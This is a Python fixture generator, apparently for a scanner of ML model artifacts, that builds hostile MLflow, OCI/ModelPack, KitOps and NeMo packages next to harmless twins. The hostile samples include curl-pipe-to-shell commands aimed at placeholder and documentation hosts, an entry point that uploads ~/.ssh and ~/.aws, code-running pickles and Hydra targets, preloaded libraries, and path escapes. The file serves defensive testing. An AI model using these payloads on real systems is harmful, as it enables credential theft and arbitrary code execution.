"""What deploys a model: MLflow, OCI images and ModelPack, and NeMo archives with their Hydra configs."""

from __future__ import annotations

import hashlib
import json

import zstandard

from assembly import call, dot, glob, pickle
from pair import CODE, SHELL
from seventh.kit import HOST, SITE, elf, floats, layer, link, safetensors, second, state, tarred, torch_zip

FLAVOUR = 'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    {}\n    python_version: 3.11.7\nmlflow_version: 2.15.0\nmodel_uuid: 5b6c0b7e8a9d4f6a9b1c2d3e4f506172\nsignature:\n  inputs: \'[{{"name": "x", "type": "double"}}]\'\n'
CONDA = "name: mlflow-env\nchannels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip\n- pip:\n  - mlflow==2.15.0\n  - {}\n"
ENVIRONMENT = "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools==69.0.3\ndependencies:\n- {}\n"


def weights() -> bytes:
    return safetensors([layer("fc.weight", 8, 4)])


def mlflow(out):
    def one(name, hostile, twin, why="", prove=None):
        out.add("mlflow", name, hostile, twin, prove, None, why)

    kept = {
        "model.safetensors": weights(),
        "conda.yaml": CONDA.format("safetensors==0.4.5"),
        "python_env.yaml": ENVIRONMENT.format("-r requirements.txt"),
        "requirements.txt": "mlflow==2.15.0\nsafetensors==0.4.5\n",
    }
    loader = FLAVOUR.format("loader_module: ranker_loader\n    code: code\n    data: model.safetensors")
    body = "import json\nimport pathlib\n{}\n\n\ndef _load_pyfunc(path):\n    class Ranker:\n        def predict(self, frame):\n            return [0.0 for _ in range(len(frame))]\n\n    return Ranker()\n"
    one(
        "loader_module_acts",
        {
            "code/ranker_loader.py": body.format("pathlib.os.spawnlp(pathlib.os.P_WAIT, 'touch', 'touch', 'marker')"),
            "MLmodel": loader,
            **kept,
        },
        {
            "code/ranker_loader.py": body.format("ROOT = pathlib.os.path.dirname(pathlib.os.path.abspath(__file__))"),
            "MLmodel": loader,
            **kept,
        },
        "the loader's module is imported; os is reached through another module",
        "program",
    )
    data = "loader_module: mlflow.pytorch\n    data: {}\n    pickle_module_name: mlflow.pytorch.pickle_module"
    one(
        "data_outside_of_the_model",
        {"MLmodel": FLAVOUR.format(data.format("../../../../../../home/user/.cache/torch/latest.pt")), **kept},
        {"MLmodel": FLAVOUR.format(data.format("model.safetensors")), **kept},
        "the path of the weights leaves the model's folder",
    )
    plain = FLAVOUR.format("loader_module: mlflow.sklearn\n    model_path: model.safetensors")
    one(
        "environment_line_runs_a_command",
        {"MLmodel": plain, **kept, "python_env.yaml": ENVIRONMENT.format(f'"numpy; curl -s http://{HOST}/e | sh #"')},
        {"MLmodel": plain, **kept, "python_env.yaml": ENVIRONMENT.format("\"numpy; python_version < '4'\"")},
        "CVE-2025-15379: the line goes into a shell command; the twin's is an environment marker",
    )
    one(
        "packages_from_a_bare_address",
        {
            "MLmodel": plain,
            **kept,
            "conda.yaml": CONDA.format(f"--index-url http://{HOST}/simple --trusted-host {HOST}\n  - ranker-core==99.0"),
            "requirements.txt": f"--extra-index-url http://{HOST}/simple\n--trusted-host {HOST}\nranker-core==99.0\n",
        },
        {
            "MLmodel": plain,
            **kept,
            "conda.yaml": CONDA.format("--index-url https://pypi.org/simple\n  - safetensors==0.4.5"),
            "requirements.txt": "--index-url https://pypi.org/simple\nsafetensors==0.4.5\n",
        },
        "an untrusted host serves the packages by plain http",
    )
    calm = pickle({"model": {"coef": [0.5, 0.25]}, "signature": call(glob("collections", "OrderedDict"))})
    pickled = FLAVOUR.format("loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.0.0")
    console = pickle(
        {
            "model": {"coef": [0.5, 0.25]},
            "signature": call(dot("code", "InteractiveConsole.push"), call(glob("code", "InteractiveConsole")), CODE),
        }
    )
    one(
        "python_model_pushes_a_line",
        {"python_model.pkl": console, "MLmodel": pickled, **kept},
        {"python_model.pkl": calm, "MLmodel": pickled, **kept},
        "an interactive console is made and given a line",
        "pickle",
    )
    project = 'name: ranker\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      epochs: {{type: int, default: 3}}\n    command: "{}"\n'
    one(
        "entry_point_ships_the_home",
        {
            "MLproject": project.format(f"python train.py --epochs {{epochs}} && tar cz ~/.ssh ~/.aws | curl -s -T - https://{SITE}/u"),
            **kept,
        },
        {"MLproject": project.format("python train.py --epochs {epochs} && tar cz outputs > outputs.tar.gz"), **kept},
        "after training the keys of the home folder are sent away",
    )
    docker = 'name: ranker\ndocker_env:\n  image: ranker:1.0\n  volumes: ["{}"]\n  environment: [["{}", "{}"]]\nentry_points:\n  main:\n    command: "python train.py"\n'
    one(
        "project_mounts_the_host",
        {"MLproject": docker.format("/:/host:rw", "LD_PRELOAD", "/host/var/lib/.l.so"), **kept},
        {"MLproject": docker.format("/data/sets:/data:ro", "OMP_NUM_THREADS", "4"), **kept},
        "the root of the host is mounted for writing and a library of it is preloaded",
    )


def oci_layout(config: dict, layers, manifest=None, annotations=None, spoil=False) -> dict:
    """An OCI image layout of (media type, blob, annotations) layers."""
    files = {"oci-layout": '{"imageLayoutVersion": "1.0.0"}'}

    def blob(data: bytes, media: str, **more) -> dict:
        digest = hashlib.sha256(data).hexdigest()
        files[f"blobs/sha256/{digest}"] = data
        return {"mediaType": media, "digest": f"sha256:{digest}", "size": len(data), **more}

    listed = [blob(data, media, **({"annotations": notes} if notes else {})) for media, data, notes in layers]
    kind = "application/vnd.oci.image.config.v1+json" if not manifest else "application/vnd.cncf.model.config.v1+json"
    body = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": blob(json.dumps(config).encode(), kind),
        "layers": listed,
        **(manifest or {}),
    }
    files["index.json"] = json.dumps(
        {"schemaVersion": 2, "manifests": [blob(json.dumps(body).encode(), "application/vnd.oci.image.manifest.v1+json")]}
    )
    if spoil:
        name = f"blobs/sha256/{listed[0]['digest'][7:]}"
        files[name] = files[name][:-8] + b"\x01" * 8
    return files


def oci(out):
    def one(name, hostile, twin, why="", prove=None):
        out.add("oci", name, hostile, twin, prove, None, why)

    tar, model = "application/vnd.oci.image.layer.v1.tar+gzip", "application/vnd.cncf.model.weight.v1.raw"
    image = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}
    srv = ("srv/model.safetensors", weights())

    def run(command):
        return oci_layout(
            {**image, "config": {"Entrypoint": ["/bin/sh", "-c", command], "Env": ["PATH=/usr/bin:/bin"]}},
            [(tar, tarred([srv], "w:gz"), None)],
        )

    one(
        "entrypoint_fetches_and_runs",
        run(f"(curl -s http://{HOST}/b || wget -qO- http://{HOST}/b) | sh; exec python /srv/serve.py"),
        run("ulimit -n 65536; exec python /srv/serve.py"),
        "the image's own start command",
        "oci.entrypoint",
    )

    def layered(*members):
        return oci_layout({**image, "config": {"Cmd": ["python", "/srv/serve.py"]}}, [(tar, tarred([srv, *members], "w:gz"), None)])

    one(
        "layer_preloads_a_library",
        layered(("etc/ld.so.preload", "/usr/lib/libselinux.so.3\n"), ("usr/lib/libselinux.so.3", elf())),
        layered(("etc/ld.so.conf.d/cuda.conf", "/usr/local/cuda/lib64\n")),
        "every program of the image loads the library first",
    )
    one(
        "layer_writes_through_a_link",
        layered(("srv/cache", link("srv/cache", "../../../../home/user/.ssh")), ("srv/cache/authorized_keys", "ssh-ed25519 AAAA ops\n")),
        layered(("srv/cache", link("srv/cache", "../data/cache")), ("srv/cachelist", "a\nb\n")),
        "a file is written through a link of the same layer",
    )
    site = "usr/lib/python3/site-packages/"
    zst = "application/vnd.oci.image.layer.v1.tar+zstd"

    def zstd(line):
        return oci_layout(image, [(zst, zstandard.compress(tarred([srv, (site + "torch_compat.pth", line)])), None)])

    one(
        "zstd_layer_with_a_start_up_line",
        zstd("import os; os.system('curl -s http://198.51.100.23/z | sh')\n"),
        zstd("torch_plugins\n"),
        "a .pth in site-packages, in a layer compressed by zstd",
    )
    pack = {"artifactType": "application/vnd.cncf.model.manifest.v1+json"}
    described = {
        "descriptor": {"name": "tiny", "format": "safetensors"},
        "config": {"paramSize": "8m"},
        "modelfs": {"type": "layers", "diffIds": []},
    }

    def modelpack(blob, **more):
        return oci_layout(described, [(model, blob, {"org.cncf.model.filepath": "model.safetensors"})], pack, **more)

    one(
        "weights_that_are_a_pickle",
        modelpack(pickle(call(glob("multiprocessing.util", "spawnv_passfds"), b"/usr/bin/touch", [b"touch", b"marker"], ()))),
        modelpack(weights()),
        "the layer says safetensors and is a pickle that starts a program",
        "oci",
    )
    one(
        "blob_is_not_its_digest",
        modelpack(safetensors([("fc.weight", "F32", [8, 4], floats(32))]), spoil=True),
        modelpack(safetensors([("fc.weight", "F32", [8, 4], floats(32))])),
        "the weights were changed after the manifest was written",
    )

    def kit(path):
        return {
            "Kitfile": f"manifestVersion: 1.0.0\npackage:\n  name: tiny\n  version: 1.0.0\nmodel:\n  name: tiny\n  path: {path}\n  framework: safetensors\ncode:\n- path: ./src\n  description: serving\n",
            "model/model.safetensors": weights(),
            "src/serve.py": "print('serve')\n",
        }

    one("kitfile_packs_the_host", kit("../../../../etc"), kit("./model"), "KitOps packs and unpacks the path, which leaves the project")


def nemo(out):
    def one(name, hostile, twin, why="", prove="hydra", file="model.nemo"):
        out.add("nemo", name, hostile, twin, prove, file, why)

    top = "target: {target}\nsample_rate: 16000\npreprocessor:\n  _target_: {pre}\n{args}tokenizer:\n  dir: {tokens}\n  type: bpe\n"
    good = dict(
        target="nemo.collections.asr.models.EncDecCTCModelBPE",
        pre="nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
        args="  window_size: 0.02\n",
        tokens="nemo:tok_model.model",
    )
    clean = torch_zip(second(pickle(state(("note", "step 9")))))

    def packed(config, checkpoint=clean, extra=(), mode="w"):
        return tarred(
            [("./model_config.yaml", config), ("./model_weights.ckpt", checkpoint), ("./tok_model.model", floats(8)), *extra], mode
        )

    def config(**change):
        return top.format(**{**good, **change})

    deep = "  augmentor:\n    - name: white\n      params:\n        _target_: {}\n        _args_: [{}]\n"
    one(
        "target_in_a_list_two_deep",
        packed(config(args=deep.format("os.system", SHELL))),
        packed(config(args=deep.format("collections.deque", "[1, 2]"))),
        "Hydra makes every mapping with a _target_, wherever it lies",
    )
    one(
        "target_is_hydra_itself",
        packed(
            config(
                pre="builtins.dict",
                args="  window:\n    _target_: hydra.utils.instantiate\n    config: {_target_: pydoc.pipepager, _args_: [x, touch marker]}\n    _recursive_: false\n",
            )
        ),
        packed(
            config(
                pre="builtins.dict",
                args="  window:\n    _target_: omegaconf.OmegaConf.create\n    _args_: [{a: 1}]\n    _recursive_: false\n",
            )
        ),
        "instantiate makes instantiate; the twin makes a config",
    )
    one(
        "target_fetches_a_repository",
        packed(config(pre="torch.hub.load", args="  repo_or_dir: 'fast-audio/mel:main'\n  model: mel\n  trust_repo: true\n")),
        packed(config(pre="torch.nn.Identity", args="  n_mels: 80\n")),
        "torch.hub fetches the repository's hubconf.py and runs it; not run, it needs the network",
        None,
    )
    sent = "trainer:\n  logger:\n    url: https://{}/${{oc.env:{},none}}\n"
    one(
        "environment_in_an_address",
        packed(config() + sent.format(SITE + "/log?k=", "AWS_SECRET_ACCESS_KEY")),
        packed(config() + sent.format("wandb.example.com", "WANDB_PROJECT")),
        "a resolver puts a secret of the environment in a foreign address; the twin puts a project's name",
        None,
    )
    one(
        "member_climbs_out",
        packed(config(), extra=[("./../marker", b"x")]),
        packed(config(), extra=[("./.state/notes", b"x")]),
        "CVE-2024-0129: a member's path leaves the folder of extraction",
        "untar",
    )
    wicked = torch_zip(second(pickle(state(("note", call(glob("doctest", "debug_script"), CODE, True))))))
    one(
        "checkpoint_in_a_compressed_archive",
        packed(config(), wicked, mode="w:gz"),
        packed(config(), clean, mode="w:gz"),
        "the torch file of the archive acts when NeMo reads it without weights_only",
        "nemo.checkpoint",
    )
    tag = "# lightning hyper-parameters\nlr: 0.001\ncallbacks: !!python/object/apply:{}\n- {}\n"
    one(
        "hyper_parameters_with_a_tag",
        tag.format("subprocess.getoutput", SHELL),
        tag.format("collections.OrderedDict", "[[lr, 0.001]]"),
        "Lightning's hparams.yaml; the tag calls a function",
        "yaml",
        "hparams.yaml",
    )


def add(out):
    mlflow(out)
    oci(out)
    nemo(out)
